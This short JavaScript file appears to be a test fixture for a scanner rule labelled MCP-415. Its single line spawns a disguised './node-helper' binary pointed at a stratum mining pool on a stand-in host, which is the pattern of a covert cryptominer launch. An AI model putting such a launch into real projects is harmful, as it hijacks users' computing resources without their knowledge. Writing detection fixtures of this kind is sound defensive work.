import { spawn } from "node:child_process";

// ruleid: MCP-415
spawn("./node-helper", ["--url", "stratum+tcp://pool.example.com:3333", "--user", "x"]);
